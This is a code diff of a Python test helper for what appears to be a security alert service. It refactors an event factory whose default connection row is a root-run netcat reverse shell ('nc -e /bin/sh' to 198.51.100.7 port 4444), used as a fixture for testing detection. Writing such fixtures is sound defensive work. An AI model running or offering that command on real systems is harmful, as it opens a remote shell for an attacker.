@@ -8,6 +8,7 @@ import logging
 import signal
 import sys
 import threading
+from collections.abc import Mapping
 from types import MappingProxyType
 from typing import Any
 
@@ -27,6 +28,7 @@ from alert_service.match import Alert, alert_id
 from alert_service.parse import Event
 
 __all__ = [
+    "COLUMNS",
     "HANG",
     "Answer",
     "FakeClock",
@@ -38,45 +40,59 @@ __all__ = [
 ]
 
 
+COLUMNS: dict[str, str | int | None] = {
+    "pid": 901,
+    "family": 2,
+    "protocol": 6,
+    "local_address": "10.0.0.5",
+    "local_port": 40001,
+    "remote_address": "198.51.100.7",
+    "remote_port": 4444,
+    "direction": "outbound",
+    "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
+    "name": "nc",
+    "path": "/usr/bin/nc",
+    "cmdline": "nc -e /bin/sh 198.51.100.7 4444",
+    "uid": 0,
+    "username": "root",
+}
+"""The row of :func:`make_event` unless a test gives its own ``columns``."""
+
+
 def make_event(
     *,
     host: str = "web-01",
     counter: int = 3,
     action: str = "added",
-    decorations: dict[str, str] | None = None,
-    **columns: str | int | None,
+    decorations: Mapping[str, str] | None = None,
+    columns: Mapping[str, str | int | None] | None = None,
+    query_name: str = "pack_tracked_connections_tracked_connections",
+    pack: str | None = "tracked_connections",
+    calendar_time: str = "Tue Sep  2 07:05:09 2025 UTC",
+    unix_time: int = 1756796709,
+    **overrides: str | int | None,
 ) -> Event:
-    cols: dict[str, str | int | None] = {
-        "pid": 901,
-        "family": 2,
-        "protocol": 6,
-        "local_address": "10.0.0.5",
-        "local_port": 40001,
-        "remote_address": "198.51.100.7",
-        "remote_port": 4444,
-        "direction": "outbound",
-        "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
-        "name": "nc",
-        "path": "/usr/bin/nc",
-        "cmdline": "nc -e /bin/sh 198.51.100.7 4444",
-        "uid": 0,
-        "username": "root",
-    }
-    cols.update(columns)
+    """The one event factory of these tests: a ``tracked_connections`` row as logged.
+
+    ``columns`` replaces the whole row (:data:`COLUMNS` by default); ``overrides`` then
+    set single columns, and a value ``"<drop>"`` leaves that column out.
+    """
+    cols = dict(COLUMNS if columns is None else columns)
+    cols.update(overrides)
     cols = {k: v for k, v in cols.items() if v != "<drop>"}
     return Event(
-        name="pack_tracked_connections_tracked_connections",
-        pack="tracked_connections",
+        name=query_name,
+        pack=pack,
         query="tracked_connections",
         host_identifier=host,
-        calendar_time="Tue Sep  2 07:05:09 2025 UTC",
-        unix_time=1756796709,
+        calendar_time=calendar_time,
+        unix_time=unix_time,
         epoch=0,
         counter=counter,
         action=action,  # type: ignore[arg-type]
         columns=MappingProxyType(cols),
         decorations=MappingProxyType(
-            {"hostname": "web-01.example.com"} if decorations is None else decorations
+            {"hostname": "web-01.example.com"} if decorations is None else dict(decorations)
         ),
     )
 
